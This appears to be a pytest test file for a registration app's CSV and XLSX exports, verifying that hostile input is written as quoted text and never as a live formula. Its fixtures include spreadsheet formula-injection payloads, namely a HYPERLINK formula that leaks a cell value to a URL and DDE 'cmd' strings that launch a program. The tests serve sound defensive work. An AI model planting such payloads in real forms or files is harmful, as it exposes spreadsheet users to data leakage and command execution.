"""No CSV or XLSX the app writes carries a live formula: hostile text typed into the public form, the
walk-in form or a region name comes out as text, numbers and dates stay numbers and dates."""
import csv
import io
import zipfile
from datetime import date, datetime, timedelta

from openpyxl import Workbook, load_workbook
from sqlalchemy import select, update

from app.core.spreadsheet import FORMULA_START, csv_cell, csv_writer, xlsx_append
from app.core.timeutil import today_wib, utcnow
from app.extensions import db
from app.participants.models import Participant
from app.regions.models import Kelurahan
from app.reports.figures import monday_of
from tests.conftest import kecamatan_by_code
from tests.test_online_queue import send_online
from tests.test_registration import submit
from tests.test_reports import Person, insert_people

# Through the public form /daftar (the kind of name that started issue 13) ...
ONLINE = {"name": '=HYPERLINK("http://x?d="&C2,"Klik")', "address": "+1+cmd|' /C calc'!A0",
          "business_name": "@SUM(1+1)*cmd|' /C calc'!A0"}
# ... and through the walk-in form at the desk.
WALKIN = {"name": "-2+3 Budi", "address": "=1+1", "business_name": "@Bakso"}
HOSTILE = set(ONLINE.values()) | set(WALKIN.values())


def register_hostile(app, client, login_as):
    """One online registration and one walk-in, each with a formula in name, address and business name."""
    assert send_online(client, app, **ONLINE).status_code == 302
    login_as("staff")
    assert submit(client, app, **WALKIN).status_code == 302
    with app.app_context():
        assert {p.name for p in db.session.scalars(select(Participant))} == {ONLINE["name"], WALKIN["name"]}


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    response.close()
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_csv_safe(rows: list[list[str]]) -> None:
    """No cell but a plain number (``-1``) starts with a character that makes a spreadsheet evaluate it."""
    risky = [cell for row in rows for cell in row if cell.startswith(FORMULA_START) and not _number(cell)]
    assert not risky, risky


def xlsx_of(response):
    assert response.status_code == 200
    data = response.data
    response.close()
    return data, load_workbook(io.BytesIO(data))


def assert_xlsx_safe(data: bytes, book) -> None:
    """No formula anywhere, in openpyxl's reading and in the sheets' XML itself; every string a text
    cell, and a text a spreadsheet would evaluate marked with the quote prefix."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
                    if cell.value.startswith(FORMULA_START) and not _number(cell.value):
                        assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)


def by_name(rows, name_column: int = 2) -> dict:
    return {row[name_column]: row for row in rows[1:]}


# --- The participant export ------------------------------------------------------------------------

def test_participant_csv_export_quotes_formulas(app, client, login_as):
    register_hostile(app, client, login_as)
    rows = csv_rows(client.get("/peserta/ekspor.csv"))
    assert_csv_safe(rows)
    people = by_name(rows)
    assert set(people) == {"'" + ONLINE["name"], "'" + WALKIN["name"]}
    online, walkin = people["'" + ONLINE["name"]], people["'" + WALKIN["name"]]
    assert (online[7], online[10]) == ("'" + ONLINE["address"], "'" + ONLINE["business_name"])
    assert (walkin[7], walkin[10]) == ("'" + WALKIN["address"], "'" + WALKIN["business_name"])
    # The quote is all that changes; dates stay ISO dates, and the phone keeps its digits after the quote.
    assert online[4] == "1995-05-15" and walkin[4] == "1985-08-17"
    assert walkin[1] == "3174011708859901" and walkin[5] == "+6281234567890"  # a plain number


def test_participant_xlsx_export_writes_text_never_formulas(app, client, login_as):
    register_hostile(app, client, login_as)
    data, book = xlsx_of(client.get("/peserta/ekspor.xlsx"))
    assert_xlsx_safe(data, book)
    sheet = book["Peserta"]
    rows = {row[2].value: row for row in sheet.iter_rows(min_row=2)}
    assert set(rows) == {ONLINE["name"], WALKIN["name"]}  # exactly as typed, as text
    for values in (ONLINE, WALKIN):
        row = rows[values["name"]]
        for column, field in ((2, "name"), (7, "address"), (10, "business_name")):
            assert (row[column].value, row[column].data_type, row[column].quotePrefix) == (values[field], "s", True)
    assert rows[WALKIN["name"]][4].value == datetime(1985, 8, 17) and rows[WALKIN["name"]][4].is_date
    assert isinstance(rows[WALKIN["name"]][15].value, datetime)  # the registration date, a date


def test_action_list_export_quotes_formulas(app, client, login_as):
    """``aksi=daring_tertunda``: the online registration left waiting for more than a week."""
    register_hostile(app, client, login_as)
    with app.app_context():
        db.session.execute(update(Participant).where(Participant.channel == "online")
                           .values(registered_at=utcnow() - timedelta(days=9)))
        db.session.commit()
    rows = csv_rows(client.get("/peserta/ekspor.csv?aksi=daring_tertunda"))
    assert_csv_safe(rows)
    assert list(by_name(rows)) == ["'" + ONLINE["name"]]
    data, book = xlsx_of(client.get("/peserta/ekspor.xlsx?aksi=daring_tertunda"))
    assert_xlsx_safe(data, book)
    names = [row[2] for row in book["Peserta"].iter_rows(min_row=2, values_only=True)]
    assert names == [ONLINE["name"]]


# --- The weekly report -----------------------------------------------------------------------------

HOSTILE_KELURAHAN = '=HYPERLINK("http://x","Tebet Timur")'


def weekly_world(app):
    """A kelurahan whose name (from the regions data file) is a formula, and a P1 completed in the week
    before the reported one, so that the report's change column holds a negative number."""
    monday = monday_of(today_wib()) - timedelta(days=7)  # the default: the last complete week
    with app.app_context():
        kel = db.session.scalars(select(Kelurahan).where(Kelurahan.code == "31.74.01.1001")).one()
        original = kel.name
        kel.name = HOSTILE_KELURAHAN
        db.session.commit()
        tebet = kecamatan_by_code("31.74.01").id
        insert_people([Person(kel.id, tebet, steps={1: monday - timedelta(days=3)},
                              registered_at=datetime.combine(monday - timedelta(days=3), datetime.min.time()))])
    return original


def restore_kelurahan(app, name: str) -> None:
    with app.app_context():
        db.session.execute(update(Kelurahan).where(Kelurahan.code == "31.74.01.1001").values(name=name))
        db.session.commit()


def test_weekly_report_csv_quotes_formulas_and_keeps_negative_numbers(app, client, login_as):
    original = weekly_world(app)
    try:
        login_as("staff")
        rows = csv_rows(client.get("/laporan/mingguan.csv"))
    finally:
        restore_kelurahan(app, original)
    header = rows[0]
    change = header.index("P1 perubahan")
    kel = next(row for row in rows if row[1] == "31.74.01.1001")
    assert kel[2] == "'" + HOSTILE_KELURAHAN
    assert kel[change] == "-1"  # a negative number is a number, not quoted text
    assert_csv_safe(rows)
    assert all(row[change].lstrip("-").isdigit() for row in rows[1:])


def test_weekly_report_xlsx_writes_text_never_formulas(app, client, login_as):
    original = weekly_world(app)
    try:
        login_as("staff")
        data, book = xlsx_of(client.get("/laporan/mingguan.xlsx"))
    finally:
        restore_kelurahan(app, original)
    assert_xlsx_safe(data, book)
    header = [c.value for c in book["Kelurahan"][1]]
    kel = next(row for row in book["Kelurahan"].iter_rows(min_row=2) if row[0].value == "31.74.01.1001")
    assert (kel[1].value, kel[1].data_type, kel[1].quotePrefix) == (HOSTILE_KELURAHAN, "s", True)
    change = kel[header.index("P1 perubahan")]
    assert (change.value, change.data_type) == (-1, "n")
    summary = {}
    for row in book["Ringkasan"].iter_rows(min_row=4):  # the steps' table comes before the breakdowns
        if row[0].value:
            summary.setdefault(row[0].value, row)
    assert (summary["P1"][5].value, summary["P1"][5].data_type) == (-1, "n")


# --- The import template ---------------------------------------------------------------------------

def test_import_templates_hold_no_formula(app, client, login_as):
    login_as("staff")
    rows = csv_rows(client.get("/peserta/impor/templat.csv"))
    assert_csv_safe(rows)
    assert rows[1][0] == "3171011708859901" and rows[1][2] == "0812-3456-7890"
    response = client.get("/peserta/impor/templat.xlsx")
    data, book = xlsx_of(response)
    assert_xlsx_safe(data, book)
    sheet = book.active
    assert (sheet["A2"].value, sheet["A2"].data_type, sheet["A2"].number_format) == ("3171011708859901", "s", "@")


# --- The helper itself: what cannot come through a form (the forms strip leading whitespace) -------

def test_csv_cell_rule():
    for start in ("=", "+", "-", "@", "\t", "\r", "\n"):
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert [csv_cell(v) for v in (-3, 2.5, 0, None, date(2026, 1, 2), "Budi", "", "'=x", " =1")] == [
        -3, 2.5, 0, "", "2026-01-02", "Budi", "", "'=x", " =1"]
    buffer = io.StringIO()
    csv_writer(buffer).writerow(['=HYPERLINK("a,b")', "-1", -1, "x;y", "+6281234567890", "-1+1", "+62 812"])
    # A plain signed number (a phone number) is read as a number and stays as it is; anything more is quoted.
    assert buffer.getvalue() == '"\'=HYPERLINK(""a,b"")",-1,-1,x;y,+6281234567890,\'-1+1,\'+62 812\r\n'


def test_xlsx_cells_in_normal_and_write_only_workbooks():
    values = ["=1+1", "\t=1+1", "\r=1+1", "\n=1+1", "#N/A", "a\x01b\x0bc", "+62812", -1, 2.5, date(2026, 1, 2),
              None, "Budi"]
    for write_only in (True, False):
        book = Workbook(write_only=write_only)
        sheet = book.create_sheet("S") if write_only else book.active
        xlsx_append(sheet, values)
        xlsx_append(sheet, ["=2+2", 3])
        out = io.BytesIO()
        book.save(out)
        data = out.getvalue()
        read = load_workbook(io.BytesIO(data))
        assert_xlsx_safe(data, read)
        first = [c for c in next(read.worksheets[0].iter_rows(max_row=1))]
        # (XML reads a bare CR back as LF)
        assert [c.value for c in first] == ["=1+1", "\t=1+1", "\n=1+1", "\n=1+1", "#N/A", "abc", "+62812", -1, 2.5,
                                            datetime(2026, 1, 2), None, "Budi"]
        assert [c.data_type for c in first[:7]] == ["s"] * 7 and first[4].quotePrefix is False
        assert [c.data_type for c in first[7:9]] == ["n", "n"] and first[9].is_date
        assert [c.value for c in next(read.worksheets[0].iter_rows(min_row=2, max_row=2))][:2] == ["=2+2", 3]
